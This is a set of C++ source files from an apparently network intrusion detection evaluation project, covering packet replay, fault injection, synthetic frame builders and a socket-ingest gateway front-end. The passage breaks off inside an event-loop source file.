  /// Feature blocks the search may combine.
  std::vector<std::string> blocks = {"zeek", "bayes", "iiot"};
  /// Models the search may try.
  std::vector<std::string> models = {"RandomForest", "GaussianNB",
                                     "DecisionTree", "AutoML"};
  /// Metric to optimize: "precision" | "f1".
  std::string metric = "precision";
};

/// Greedy forward search: start from the best single feature block + model,
/// then greedily add blocks / toggle training-setup options while the score
/// improves. Deterministic; cost is bounded by
/// O(blocks^2 * models + toggles) benchmark evaluations.
SynthResult synthesize(Benchmark& bench, const SynthOptions& opts = {});

/// Score one candidate: mean same-dataset metric over `datasets`.
double score_candidate(Benchmark& bench, const SynthCandidate& cand,
                       const std::vector<std::string>& datasets,
                       const std::string& metric);

}  // namespace lumen::eval
