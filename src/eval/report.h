// Text rendering of the paper's figure types: value heatmaps with gray
// (absent) cells, and per-group distribution summaries standing in for the
// scatter plots of Figs. 7-9.
#pragma once

#include <cmath>
#include <string>
#include <vector>

namespace lumen::eval {

/// A rows x cols grid of values; NaN renders as a gray (" -- ") cell.
struct Heatmap {
  std::string title;
  std::vector<std::string> row_names;
  std::vector<std::string> col_names;
  std::vector<double> cells;  // row-major; NaN = no data

  static Heatmap make(std::string title, std::vector<std::string> rows,
                      std::vector<std::string> cols) {
    Heatmap h;
    h.title = std::move(title);
    h.row_names = std::move(rows);
    h.col_names = std::move(cols);
    h.cells.assign(h.row_names.size() * h.col_names.size(),
                   std::nan(""));
    return h;
  }

  double& at(size_t r, size_t c) { return cells[r * col_names.size() + c]; }
  double at(size_t r, size_t c) const {
    return cells[r * col_names.size() + c];
  }

  /// Aligned text rendering (with a coarse shade glyph per cell).
  std::string render() const;

  /// CSV rendering for downstream plotting.
  std::string to_csv() const;
};

/// Five-number summary used by the distribution figures.
struct Distribution {
  std::string name;
  size_t n = 0;
  double min = 0.0, q25 = 0.0, median = 0.0, q75 = 0.0, max = 0.0;

  static Distribution from(std::string name, std::vector<double> values);
};

/// Aligned rendering of several distributions plus an ASCII quartile bar.
std::string render_distributions(const std::string& title,
                                 const std::vector<Distribution>& dists);

}  // namespace lumen::eval
