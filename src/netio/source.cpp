#include "netio/source.h"

#include <algorithm>
#include <chrono>
#include <thread>

#include "netio/pcap.h"

namespace lumen::netio {

TraceReplaySource::TraceReplaySource(const Trace& trace, ReplayOptions opts)
    : trace_(&trace), opts_(opts) {
  opts_.end = std::min(opts_.end, trace.raw.size());
  opts_.begin = std::min(opts_.begin, opts_.end);
  if (opts_.speed <= 0.0) opts_.speed = 1.0;
  pos_ = opts_.begin;
}

bool TraceReplaySource::next(SourcePacket& out) {
  if (pos_ >= opts_.end) return false;
  const RawPacket& raw = trace_->raw[pos_];
  if (opts_.pace) {
    // Absolute-timeline pacing: each packet is released when the wall
    // clock reaches wall0_ + (ts - ts0_) / speed, so downstream
    // processing time and sleep overshoot are absorbed instead of
    // accumulating (per-packet relative sleeps drift badly at high rates
    // because the OS timer granularity is ~50 us). A gap that would
    // require sleeping longer than max_sleep is truncated by advancing
    // the baseline — same fast-forward semantics as clamping the gap.
    using dsec = std::chrono::duration<double>;
    const auto now = std::chrono::steady_clock::now();
    if (!started_) {
      wall0_ = now;
      ts0_ = raw.ts;
    } else {
      const auto target =
          wall0_ + std::chrono::duration_cast<
                       std::chrono::steady_clock::duration>(
                       dsec((raw.ts - ts0_) / opts_.speed));
      double wait = dsec(target - now).count();
      if (wait > opts_.max_sleep) {
        wall0_ -= std::chrono::duration_cast<
            std::chrono::steady_clock::duration>(
            dsec(wait - opts_.max_sleep));
        wait = opts_.max_sleep;
      }
      // Sub-half-millisecond waits are left to accumulate into the next
      // packet's target rather than paying nanosleep overhead per packet.
      if (wait >= 0.0005) std::this_thread::sleep_for(dsec(wait));
    }
  }
  started_ = true;
  out.pkt = raw;
  // A parsed trace may have skipped malformed frames; the view keeps each
  // packet's original capture index, which is what label arrays use.
  out.capture_index = pos_ < trace_->view.size()
                          ? trace_->view[pos_].index
                          : static_cast<uint32_t>(pos_);
  ++pos_;
  return true;
}

bool TraceReplaySource::reset() {
  pos_ = opts_.begin;
  started_ = false;
  return true;
}

PcapReplaySource::PcapReplaySource(Trace trace, ReplayOptions opts)
    : trace_(std::move(trace)), replay_(trace_, opts) {}

Result<std::unique_ptr<PcapReplaySource>> PcapReplaySource::open(
    const std::string& path, ReplayOptions opts) {
  Result<Trace> trace = read_pcap(path);
  if (!trace.ok()) return trace.error();
  return std::unique_ptr<PcapReplaySource>(
      new PcapReplaySource(std::move(trace).value(), opts));
}

FaultInjectingSource::FaultInjectingSource(PacketSource& inner,
                                           FaultOptions opts)
    : inner_(&inner), opts_(opts), rng_(opts.seed) {}

void FaultInjectingSource::inject(SourcePacket& sp) {
  Bytes& data = sp.pkt.data;
  if (opts_.truncate_p > 0.0 && rng_.bernoulli(opts_.truncate_p) &&
      data.size() > 1) {
    data.resize(1 + static_cast<size_t>(rng_.below(data.size() - 1)));
  }
  if (opts_.corrupt_p > 0.0 && rng_.bernoulli(opts_.corrupt_p) &&
      !data.empty()) {
    const size_t flips = 1 + static_cast<size_t>(rng_.below(4));
    for (size_t i = 0; i < flips; ++i) {
      data[rng_.below(data.size())] ^=
          static_cast<uint8_t>(1 + rng_.below(255));
    }
  }
}

bool FaultInjectingSource::next(SourcePacket& out) {
  if (held_.has_value()) {
    out = std::move(*held_);
    held_.reset();
    return true;
  }
  if (!inner_->next(out)) return false;
  inject(out);
  if (opts_.reorder_p > 0.0 && rng_.bernoulli(opts_.reorder_p)) {
    SourcePacket following;
    if (inner_->next(following)) {
      inject(following);
      held_ = std::move(out);
      out = std::move(following);
    }
  }
  return true;
}

bool FaultInjectingSource::reset() {
  if (!inner_->reset()) return false;
  rng_.reseed(opts_.seed);
  held_.reset();
  return true;
}

LoopingSource::LoopingSource(PacketSource& inner, LoopOptions opts)
    : inner_(&inner), opts_(opts) {
  if (opts_.loops == 0) opts_.loops = 1;
  period_ = opts_.period;
}

bool LoopingSource::next(SourcePacket& out) {
  while (true) {
    if (inner_->next(out)) {
      if (loop_ == 0) {
        if (seen_ == 0) first_ts_ = out.pkt.ts;
        last_ts_ = out.pkt.ts;
        ++seen_;
      }
      out.pkt.ts += shift_;
      return true;
    }
    if (loop_ + 1 >= opts_.loops || !inner_->reset()) return false;
    if (loop_ == 0 && opts_.period <= 0.0) {
      // Derive the per-loop shift from the first pass: span plus the mean
      // inter-packet gap (a typical spacing into the next pass; 1 ms when
      // the pass had fewer than two packets).
      const double span = last_ts_ - first_ts_;
      const double mean_gap =
          seen_ >= 2 ? span / static_cast<double>(seen_ - 1) : 1e-3;
      period_ = span + (mean_gap > 0.0 ? mean_gap : 1e-3);
    }
    ++loop_;
    shift_ += period_;
  }
}

bool LoopingSource::reset() {
  if (!inner_->reset()) return false;
  loop_ = 0;
  shift_ = 0.0;
  period_ = opts_.period;
  seen_ = 0;
  return true;
}

}  // namespace lumen::netio
