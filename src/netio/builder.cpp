#include "netio/builder.h"

namespace lumen::netio {

namespace {

constexpr uint16_t kEtherIpv4 = 0x0800;
constexpr uint16_t kEtherArp = 0x0806;

void write_ethernet(ByteWriter& w, const MacAddr& dst, const MacAddr& src,
                    uint16_t ether_type) {
  w.raw(std::span<const uint8_t>(dst.data(), dst.size()));
  w.raw(std::span<const uint8_t>(src.data(), src.size()));
  w.u16(ether_type);
}

/// Writes the 20-byte IPv4 header; returns the offset of the header so the
/// checksum can be patched once the total length is known.
size_t write_ipv4(ByteWriter& w, uint32_t src_ip, uint32_t dst_ip,
                  uint8_t proto, uint16_t payload_len, const Ipv4Opts& ip) {
  const size_t off = w.size();
  const uint16_t total_len = static_cast<uint16_t>(20 + payload_len);
  w.u8(0x45);  // version 4, IHL 5
  w.u8(ip.tos);
  w.u16(total_len);
  w.u16(ip.ident);
  w.u16(ip.dont_fragment ? 0x4000 : 0x0000);
  w.u8(ip.ttl);
  w.u8(proto);
  w.u16(0);  // checksum placeholder
  w.u32(src_ip);
  w.u32(dst_ip);
  return off;
}

void patch_ipv4_checksum(Bytes& frame, size_t ip_off) {
  const uint16_t csum = internet_checksum(
      std::span<const uint8_t>(frame.data() + ip_off, 20));
  frame[ip_off + 10] = static_cast<uint8_t>(csum >> 8);
  frame[ip_off + 11] = static_cast<uint8_t>(csum);
}

/// Pseudo-header sum for TCP/UDP checksums.
uint32_t pseudo_header_sum(uint32_t src_ip, uint32_t dst_ip, uint8_t proto,
                           uint16_t l4_len) {
  uint32_t sum = 0;
  sum += (src_ip >> 16) & 0xffff;
  sum += src_ip & 0xffff;
  sum += (dst_ip >> 16) & 0xffff;
  sum += dst_ip & 0xffff;
  sum += proto;
  sum += l4_len;
  return sum;
}

void patch_l4_checksum(Bytes& frame, size_t l4_off, size_t csum_off,
                       uint32_t src_ip, uint32_t dst_ip, uint8_t proto) {
  const size_t l4_len = frame.size() - l4_off;
  frame[csum_off] = 0;
  frame[csum_off + 1] = 0;
  const uint32_t pseudo =
      pseudo_header_sum(src_ip, dst_ip, proto, static_cast<uint16_t>(l4_len));
  uint16_t csum = internet_checksum(
      std::span<const uint8_t>(frame.data() + l4_off, l4_len), pseudo);
  if (csum == 0 && proto == 17) csum = 0xffff;  // UDP: zero means "absent"
  frame[csum_off] = static_cast<uint8_t>(csum >> 8);
  frame[csum_off + 1] = static_cast<uint8_t>(csum);
}

}  // namespace

Bytes build_tcp(const MacAddr& src_mac, const MacAddr& dst_mac,
                uint32_t src_ip, uint32_t dst_ip, uint16_t src_port,
                uint16_t dst_port, const TcpOpts& tcp, const Bytes& payload,
                const Ipv4Opts& ip) {
  Bytes frame;
  frame.reserve(14 + 20 + 20 + payload.size());
  ByteWriter w(frame);
  write_ethernet(w, dst_mac, src_mac, kEtherIpv4);
  const size_t ip_off = write_ipv4(
      w, src_ip, dst_ip, 6, static_cast<uint16_t>(20 + payload.size()), ip);
  const size_t l4_off = w.size();
  w.u16(src_port);
  w.u16(dst_port);
  w.u32(tcp.seq);
  w.u32(tcp.ack);
  w.u8(0x50);  // data offset 5 words
  w.u8(tcp.flags);
  w.u16(tcp.window);
  w.u16(0);  // checksum placeholder
  w.u16(0);  // urgent pointer
  w.raw(payload);
  patch_ipv4_checksum(frame, ip_off);
  patch_l4_checksum(frame, l4_off, l4_off + 16, src_ip, dst_ip, 6);
  return frame;
}

Bytes build_udp(const MacAddr& src_mac, const MacAddr& dst_mac,
                uint32_t src_ip, uint32_t dst_ip, uint16_t src_port,
                uint16_t dst_port, const Bytes& payload, const Ipv4Opts& ip) {
  Bytes frame;
  frame.reserve(14 + 20 + 8 + payload.size());
  ByteWriter w(frame);
  write_ethernet(w, dst_mac, src_mac, kEtherIpv4);
  const size_t ip_off = write_ipv4(
      w, src_ip, dst_ip, 17, static_cast<uint16_t>(8 + payload.size()), ip);
  const size_t l4_off = w.size();
  w.u16(src_port);
  w.u16(dst_port);
  w.u16(static_cast<uint16_t>(8 + payload.size()));
  w.u16(0);  // checksum placeholder
  w.raw(payload);
  patch_ipv4_checksum(frame, ip_off);
  patch_l4_checksum(frame, l4_off, l4_off + 6, src_ip, dst_ip, 17);
  return frame;
}

Bytes build_icmp(const MacAddr& src_mac, const MacAddr& dst_mac,
                 uint32_t src_ip, uint32_t dst_ip, uint8_t type, uint8_t code,
                 const Bytes& payload, const Ipv4Opts& ip) {
  Bytes frame;
  frame.reserve(14 + 20 + 8 + payload.size());
  ByteWriter w(frame);
  write_ethernet(w, dst_mac, src_mac, kEtherIpv4);
  const size_t ip_off = write_ipv4(
      w, src_ip, dst_ip, 1, static_cast<uint16_t>(8 + payload.size()), ip);
  const size_t icmp_off = w.size();
  w.u8(type);
  w.u8(code);
  w.u16(0);  // checksum placeholder
  w.u32(0);  // rest of header (id/seq)
  w.raw(payload);
  patch_ipv4_checksum(frame, ip_off);
  const uint16_t csum = internet_checksum(std::span<const uint8_t>(
      frame.data() + icmp_off, frame.size() - icmp_off));
  frame[icmp_off + 2] = static_cast<uint8_t>(csum >> 8);
  frame[icmp_off + 3] = static_cast<uint8_t>(csum);
  return frame;
}

Bytes build_arp(const MacAddr& src_mac, const MacAddr& dst_mac, uint16_t op,
                const MacAddr& sender_mac, uint32_t sender_ip,
                const MacAddr& target_mac, uint32_t target_ip) {
  Bytes frame;
  frame.reserve(14 + 28);
  ByteWriter w(frame);
  write_ethernet(w, dst_mac, src_mac, kEtherArp);
  w.u16(1);       // hardware type: ethernet
  w.u16(0x0800);  // protocol type: IPv4
  w.u8(6);
  w.u8(4);
  w.u16(op);
  w.raw(std::span<const uint8_t>(sender_mac.data(), 6));
  w.u32(sender_ip);
  w.raw(std::span<const uint8_t>(target_mac.data(), 6));
  w.u32(target_ip);
  return frame;
}

Bytes build_dot11_mgmt(uint8_t subtype, const MacAddr& src, const MacAddr& dst,
                       const MacAddr& bssid, const Bytes& body) {
  Bytes frame;
  frame.reserve(24 + body.size());
  ByteWriter w(frame);
  // Frame control (little-endian on the wire): type 0 (mgmt), given subtype.
  const uint16_t fc = static_cast<uint16_t>((0u << 2) | (subtype << 4));
  w.u16le(fc);
  w.u16le(0);  // duration
  w.raw(std::span<const uint8_t>(dst.data(), 6));
  w.raw(std::span<const uint8_t>(src.data(), 6));
  w.raw(std::span<const uint8_t>(bssid.data(), 6));
  w.u16le(0);  // sequence control
  w.raw(body);
  return frame;
}

Bytes build_dot11_data(const MacAddr& src, const MacAddr& dst,
                       const MacAddr& bssid, size_t body_len, uint8_t fill) {
  Bytes frame;
  frame.reserve(24 + body_len);
  ByteWriter w(frame);
  const uint16_t fc = static_cast<uint16_t>((2u << 2) | (0u << 4) | 0x4000);
  w.u16le(fc);  // type 2 (data), protected bit set
  w.u16le(0);
  w.raw(std::span<const uint8_t>(dst.data(), 6));
  w.raw(std::span<const uint8_t>(src.data(), 6));
  w.raw(std::span<const uint8_t>(bssid.data(), 6));
  w.u16le(0);
  frame.insert(frame.end(), body_len, fill);
  return frame;
}

Bytes payload_dns_query(uint16_t txid, const std::string& qname) {
  Bytes p;
  ByteWriter w(p);
  w.u16(txid);
  w.u16(0x0100);  // standard query, recursion desired
  w.u16(1);       // QDCOUNT
  w.u16(0);
  w.u16(0);
  w.u16(0);
  // QNAME: length-prefixed labels.
  size_t start = 0;
  while (start <= qname.size()) {
    size_t dot = qname.find('.', start);
    if (dot == std::string::npos) dot = qname.size();
    const size_t len = dot - start;
    w.u8(static_cast<uint8_t>(len));
    w.raw(qname.substr(start, len));
    if (dot >= qname.size()) break;
    start = dot + 1;
  }
  w.u8(0);    // root label
  w.u16(1);   // QTYPE A
  w.u16(1);   // QCLASS IN
  return p;
}

Bytes payload_http_request(const std::string& method, const std::string& uri,
                           const std::string& host) {
  const std::string text = method + " " + uri + " HTTP/1.1\r\nHost: " + host +
                           "\r\nUser-Agent: lumen-iot/1.0\r\n\r\n";
  return Bytes(text.begin(), text.end());
}

Bytes payload_mqtt(uint8_t type, size_t body_len) {
  Bytes p;
  ByteWriter w(p);
  w.u8(static_cast<uint8_t>(type << 4));
  // Remaining-length varint (we only need 1-2 bytes at our sizes).
  if (body_len < 128) {
    w.u8(static_cast<uint8_t>(body_len));
  } else {
    w.u8(static_cast<uint8_t>((body_len & 0x7f) | 0x80));
    w.u8(static_cast<uint8_t>(body_len >> 7));
  }
  p.insert(p.end(), body_len, 0x4d);
  return p;
}

Bytes payload_ntp_request() {
  Bytes p(48, 0);
  p[0] = 0x23;  // LI 0, VN 4, mode 3 (client)
  return p;
}

Bytes payload_ssdp_msearch() {
  const std::string text =
      "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n"
      "MAN: \"ssdp:discover\"\r\nMX: 2\r\nST: ssdp:all\r\n\r\n";
  return Bytes(text.begin(), text.end());
}

Bytes payload_tls_appdata(size_t body_len, uint8_t fill) {
  Bytes p;
  ByteWriter w(p);
  w.u8(0x17);    // application data
  w.u16(0x0303); // TLS 1.2
  w.u16(static_cast<uint16_t>(body_len));
  p.insert(p.end(), body_len, fill);
  return p;
}

}  // namespace lumen::netio
