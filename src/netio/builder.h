// Packet construction. The synthetic dataset generators use these helpers to
// emit genuine frame bytes (valid lengths, checksums, header layouts) so that
// byte-level feature extractors (e.g. the nPrint-style bit vectorizer) see
// the same structure they would see on real captures.
#pragma once

#include <cstdint>
#include <string>

#include "netio/packet.h"

namespace lumen::netio {

/// Options shared by IPv4 packet builders.
struct Ipv4Opts {
  uint8_t ttl = 64;
  uint8_t tos = 0;
  uint16_t ident = 0;
  bool dont_fragment = true;
};

struct TcpOpts {
  uint8_t flags = kAck;
  uint32_t seq = 0;
  uint32_t ack = 0;
  uint16_t window = 8192;
};

/// Ethernet + IPv4 + TCP frame with the given payload.
Bytes build_tcp(const MacAddr& src_mac, const MacAddr& dst_mac,
                uint32_t src_ip, uint32_t dst_ip, uint16_t src_port,
                uint16_t dst_port, const TcpOpts& tcp, const Bytes& payload,
                const Ipv4Opts& ip = {});

/// Ethernet + IPv4 + UDP frame with the given payload.
Bytes build_udp(const MacAddr& src_mac, const MacAddr& dst_mac,
                uint32_t src_ip, uint32_t dst_ip, uint16_t src_port,
                uint16_t dst_port, const Bytes& payload,
                const Ipv4Opts& ip = {});

/// Ethernet + IPv4 + ICMP frame (echo request/reply and friends).
Bytes build_icmp(const MacAddr& src_mac, const MacAddr& dst_mac,
                 uint32_t src_ip, uint32_t dst_ip, uint8_t type, uint8_t code,
                 const Bytes& payload, const Ipv4Opts& ip = {});

/// Ethernet ARP packet. op: 1 = request, 2 = reply.
Bytes build_arp(const MacAddr& src_mac, const MacAddr& dst_mac, uint16_t op,
                const MacAddr& sender_mac, uint32_t sender_ip,
                const MacAddr& target_mac, uint32_t target_ip);

/// Bare 802.11 management frame (no radiotap). subtype: 8 = beacon,
/// 12 = deauthentication, 11 = authentication, ...
Bytes build_dot11_mgmt(uint8_t subtype, const MacAddr& src, const MacAddr& dst,
                       const MacAddr& bssid, const Bytes& body);

/// Bare 802.11 data frame whose body stands in for an encrypted payload.
Bytes build_dot11_data(const MacAddr& src, const MacAddr& dst,
                       const MacAddr& bssid, size_t body_len, uint8_t fill);

// ---- Application payload builders (enough structure for service
// ---- detection and app-layer field extraction, not full protocol stacks).

/// DNS query for `qname` with the given transaction id.
Bytes payload_dns_query(uint16_t txid, const std::string& qname);

/// Minimal HTTP/1.1 request line + Host header.
Bytes payload_http_request(const std::string& method, const std::string& uri,
                           const std::string& host);

/// MQTT fixed header + trivial body. type: 1 = CONNECT, 3 = PUBLISH,
/// 12 = PINGREQ.
Bytes payload_mqtt(uint8_t type, size_t body_len);

/// NTP v4 client request (48 bytes).
Bytes payload_ntp_request();

/// SSDP M-SEARCH discovery request.
Bytes payload_ssdp_msearch();

/// TLS-looking application-data record header + opaque body.
Bytes payload_tls_appdata(size_t body_len, uint8_t fill);

}  // namespace lumen::netio
