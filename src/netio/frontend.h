// The unified gateway front-end API: every way packets can enter the
// ingest runtime — trace replay, pcap files, fault-injected streams, live
// TCP fan-in, UDP datagrams — is a SourceDriver pushing SourcePackets into
// a FrameFeed.
//
// Before this redesign the runtime could only PULL from a PacketSource
// (`while (source.next(p)) queue.push(p)`), which cannot express an event
// loop multiplexing dozens of sockets: a socket has no next(); it has
// readiness. Inverting the API to push fixes that, and the pull world
// still fits — ReplayDriver adapts any PacketSource onto a feed with
// byte-identical semantics, so IngestRuntime::run(PacketSource&) survives
// as a thin wrapper.
//
// Backpressure contract (the part both sides must honor):
//   - FrameFeed::offer() NEVER blocks. It returns kAccepted (taken),
//     kShed (taken and intentionally dropped under a drop policy — counted
//     enqueued AND dropped so conservation holds), kBusy (not taken, try
//     again after wait_ready()), or kClosed (downstream gone, stop).
//   - A driver that can wait (replay) calls wait_ready() on kBusy — that
//     reproduces the old blocking-push semantics exactly. A driver that
//     must not block (the event loop) pauses the offending connection
//     instead: the kernel TCP window closes and the *client* feels the
//     backpressure, losslessly. Past a bounded per-connection staging
//     buffer the front-end sheds newest frames with exact per-connection
//     accounting via account_shed().
//
// Wire format (TCP stream and UDP datagrams share the record layout):
//   hello   := magic u32 "LUM1" | tenant u32 | link u32        (12 bytes, LE)
//   record  := kind u8 | reserved u8 | reserved u16 | index u32
//            | ts f64 | orig_len u32 | incl_len u32
//            | frame bytes[incl_len]                           (24 + n)
//   kind    := 0 frame, 1 fin (end of stream, no payload)
// The timestamp travels as the full IEEE754 double (not pcap's sec/usec
// pair): feature extraction keys on exact capture time, so the timestamp
// must round-trip bit-exactly for socket ingest to score identically.
// A TCP connection sends one hello then records back-to-back; a UDP
// datagram is self-contained: hello + one record. The record carries the
// original capture index and timestamp so a socket-ingested trace scores
// bit-identically to local replay — alerts key on (ts, capture_index).
#pragma once

#include <atomic>
#include <cstdint>
#include <deque>
#include <string>
#include <unordered_map>
#include <vector>

#include "common/result.h"
#include "common/telemetry.h"
#include "netio/event_loop.h"
#include "netio/source.h"

namespace lumen::netio {

/// Outcome of a non-blocking hand-off into the runtime's conduits.
enum class FeedStatus : uint8_t {
  kAccepted = 0,  // taken; counted enqueued
  kShed,          // taken and dropped by policy; counted enqueued + dropped
  kBusy,          // not taken: conduit full under a blocking policy
  kClosed,        // not taken: downstream stopped; stop driving
};

/// Downstream half of the front-end API. IngestRuntime implements this
/// over its single queue or its per-shard rings; drivers never know which.
class FrameFeed {
 public:
  virtual ~FrameFeed() = default;
  /// Non-blocking hand-off. On kBusy the packet is NOT consumed and the
  /// caller decides: wait_ready() (replay) or stage-and-pause (sockets).
  virtual FeedStatus offer(SourcePacket& packet) = 0;
  /// Block until the conduit that last returned kBusy has room again.
  /// Returns false if the feed closed while waiting.
  virtual bool wait_ready() = 0;
  /// Account `n` frames shed upstream of the feed (per-connection staging
  /// overflow): they count enqueued + dropped so the runtime's
  /// conservation invariant (scored + skipped == enqueued - dropped)
  /// spans the socket path too.
  virtual void account_shed(uint64_t n) = 0;
};

/// Active half of the front-end API: pushes packets into a feed until the
/// stream ends, the stop flag rises, or the feed closes.
class SourceDriver {
 public:
  virtual ~SourceDriver() = default;
  virtual LinkType link() const = 0;
  virtual Result<void> drive(FrameFeed& feed,
                             const std::atomic<bool>& stop) = 0;
};

/// Pull-to-push adapter for the existing PacketSource family (replay,
/// pcap, fault injection, looping). offer()+wait_ready() reproduces the
/// old blocking producer loop exactly, packet for packet.
class ReplayDriver : public SourceDriver {
 public:
  explicit ReplayDriver(PacketSource& source, uint32_t tenant = 0)
      : source_(source), tenant_(tenant) {}
  LinkType link() const override { return source_.link(); }
  Result<void> drive(FrameFeed& feed, const std::atomic<bool>& stop) override;

 private:
  PacketSource& source_;
  uint32_t tenant_;
};

// ---------------------------------------------------------------------------
// Wire format helpers (shared by the gateway, the test clients, and the
// example walkthrough).

struct WireFormat {
  static constexpr uint32_t kMagic = 0x314D554C;  // "LUM1" little-endian
  static constexpr size_t kHelloBytes = 12;
  static constexpr size_t kRecordBytes = 24;
  enum Kind : uint8_t { kFrame = 0, kFin = 1 };
};

/// Append a 12-byte hello (magic, tenant, link) to `out`.
void append_hello(std::vector<uint8_t>& out, uint32_t tenant, LinkType link);

/// Append a 24-byte record header + frame bytes for `pkt` to `out`.
void append_record(std::vector<uint8_t>& out, const RawPacket& pkt,
                   uint32_t capture_index);

/// Append a FIN record (end-of-stream marker, no payload).
void append_fin(std::vector<uint8_t>& out);

/// Blocking loopback client used by tests, the bench, and the example:
/// connects, sends hello + every packet of `trace` in [begin, end) with its
/// original capture index, then a FIN, then closes. Pure client-side
/// socket code — runs on the caller's thread.
Result<void> send_trace_tcp(const std::string& addr, uint16_t port,
                            const Trace& trace, uint32_t tenant,
                            size_t begin = 0, size_t end = SIZE_MAX);

/// Same stream as UDP datagrams (hello + one record each). `pace_every` /
/// `pace_us`: sleep pace_us microseconds every pace_every datagrams so a
/// fast sender cannot overrun the receiver's kernel buffer on loopback.
Result<void> send_trace_udp(const std::string& addr, uint16_t port,
                            const Trace& trace, uint32_t tenant,
                            size_t begin = 0, size_t end = SIZE_MAX,
                            size_t pace_every = 256, unsigned pace_us = 500);

// ---------------------------------------------------------------------------
// Gateway front-end

struct FrontendOptions {
  std::string bind_address = "127.0.0.1";
  /// Enable the TCP listener (length-prefixed record stream per conn).
  bool tcp = true;
  uint16_t tcp_port = 0;  // 0 = ephemeral; read back via tcp_port()
  /// Enable the UDP datagram socket (one self-contained record each).
  bool udp = false;
  uint16_t udp_port = 0;
  size_t udp_rcvbuf = 4 << 20;
  /// Link type every stream must declare in its hello.
  LinkType link = LinkType::kEthernet;
  /// Reject records whose incl_len exceeds this (oversized-frame guard).
  size_t max_frame_bytes = 256 * 1024;
  /// Frames staged per connection while the feed reports kBusy before the
  /// connection is paused (TCP) or frames are shed (UDP / shed mode).
  size_t pending_frames = 1024;
  /// false: pause the socket on sustained kBusy — lossless, the client's
  /// TCP window closes. true: shed newest frames past pending_frames with
  /// per-connection accounting — bounded latency, lossy.
  bool shed_when_saturated = false;
  /// Return from drive() once every expected stream finished: at least
  /// `min_streams` streams seen (TCP connections closed cleanly or FIN
  /// records received) and no connection still open. false: serve until
  /// the stop flag rises.
  bool stop_when_drained = true;
  size_t min_streams = 1;
  /// Seconds granted to established connections to finish after a stop is
  /// requested, before they are aborted.
  double drain_grace = 2.0;
  EventLoop::Options loop;
  telemetry::Registry* registry = nullptr;  // nullptr = process registry
  std::string instrument_prefix = "frontend.";

  static FrontendOptions normalized(FrontendOptions opts,
                                    std::string* diagnostic);
};

/// Post-run accounting for one connection/stream — the "exact
/// per-connection accounting" half of the backpressure contract.
struct ConnReport {
  uint64_t id = 0;
  std::string peer;
  uint32_t tenant = 0;
  uint64_t frames = 0;   // decoded and offered (accepted or shed downstream)
  uint64_t shed = 0;     // dropped by this front-end's staging overflow
  uint64_t bytes = 0;    // payload bytes decoded
  bool fin = false;      // saw a FIN record
  CloseReason close_reason = CloseReason::kPeerClosed;
};

/// Event-driven socket ingestion: binds TCP/UDP listeners, multiplexes
/// every connection through one epoll loop on the driving thread, decodes
/// the record framing, authenticates each stream to a tenant, and pushes
/// frames into the runtime's feed under the backpressure contract above.
class GatewayFrontend : public SourceDriver, private EventLoop::Protocol {
 public:
  explicit GatewayFrontend(FrontendOptions opts);
  ~GatewayFrontend() override;

  /// Bind listeners (resolves ephemeral ports). Idempotent.
  Result<void> bind();
  uint16_t tcp_port() const { return tcp_port_; }
  uint16_t udp_port() const { return udp_port_; }

  LinkType link() const override { return opts_.link; }
  /// Runs the event loop on the calling thread (the runtime's producer
  /// thread) until drained / stopped / feed closed. Graceful shutdown:
  /// listeners close first, established connections drain.
  Result<void> drive(FrameFeed& feed, const std::atomic<bool>& stop) override;

  /// Per-connection accounting, valid after drive() returns.
  std::vector<ConnReport> connections() const { return reports_; }

 private:
  struct ConnState {
    bool hello_done = false;
    uint32_t tenant = 0;
    std::deque<SourcePacket> staged;  // decoded frames awaiting the feed
    ConnReport report;
    double accepted_at = 0;
  };

  // EventLoop::Protocol
  bool on_open(uint64_t conn, const std::string& peer) override;
  size_t on_data(uint64_t conn, const uint8_t* data, size_t n) override;
  void on_datagram(uint64_t sock, const uint8_t* data, size_t n) override;
  void on_close(uint64_t conn, CloseReason reason) override;

  /// Decode as many complete records as `data` holds; returns bytes
  /// consumed or EventLoop::kAbort on a malformed stream.
  size_t decode_records(uint64_t conn, ConnState& st, const uint8_t* data,
                        size_t n);
  /// Push one decoded frame toward the feed (direct, staged, or shed).
  void route_frame(uint64_t conn, ConnState& st, SourcePacket&& sp);
  /// Drain staged frames into the feed; resumes paused connections whose
  /// staging emptied. Returns false once the feed reports closed.
  bool flush_staged();
  bool stream_goal_met() const;
  void finalize_conn(uint64_t conn, ConnState& st, CloseReason reason);

  FrontendOptions opts_;
  EventLoop loop_;
  FrameFeed* feed_ = nullptr;  // valid only inside drive()
  uint16_t tcp_port_ = 0;
  uint16_t udp_port_ = 0;
  uint64_t tcp_listener_ = 0;
  uint64_t udp_sock_ = 0;
  bool bound_ = false;
  bool feed_closed_ = false;
  std::unordered_map<uint64_t, ConnState> conns_;
  ConnState udp_state_;  // staging + accounting for the datagram socket
  /// Frames whose connection closed before the feed had room; still owed.
  std::deque<SourcePacket> orphaned_;
  std::vector<ConnReport> reports_;
  uint64_t streams_finished_ = 0;  // clean TCP closes + FIN records
  uint64_t udp_fins_ = 0;

  // Telemetry (resolved once in the constructor).
  telemetry::Registry* registry_ = nullptr;
  telemetry::Counter* conns_accepted_ = nullptr;
  telemetry::Counter* conns_closed_ = nullptr;
  telemetry::Counter* conns_timeout_ = nullptr;
  telemetry::Counter* conns_slow_ = nullptr;
  telemetry::Counter* protocol_errors_ = nullptr;
  telemetry::Counter* frames_ = nullptr;
  telemetry::Counter* fins_ = nullptr;
  telemetry::Counter* bytes_ = nullptr;
  telemetry::Counter* shed_ = nullptr;
  telemetry::Counter* datagrams_ = nullptr;
  telemetry::Gauge* open_conns_ = nullptr;
  telemetry::Gauge* staged_depth_ = nullptr;
  telemetry::Gauge* staged_high_water_ = nullptr;
  size_t staged_total_ = 0;
};

}  // namespace lumen::netio
