#include "netio/event_loop.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <ctime>
#include <unordered_map>
#include <vector>

#include "common/options.h"

namespace lumen::netio {

namespace {

double mono_now() {
  timespec ts{};
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return static_cast<double>(ts.tv_sec) + 1e-9 * static_cast<double>(ts.tv_nsec);
}

Error sys_error(const char* where, const char* what) {
  return Error::make(where, std::string(what) + ": " + std::strerror(errno));
}

}  // namespace

const char* close_reason_name(CloseReason r) {
  switch (r) {
    case CloseReason::kPeerClosed:
      return "peer_closed";
    case CloseReason::kProtocolError:
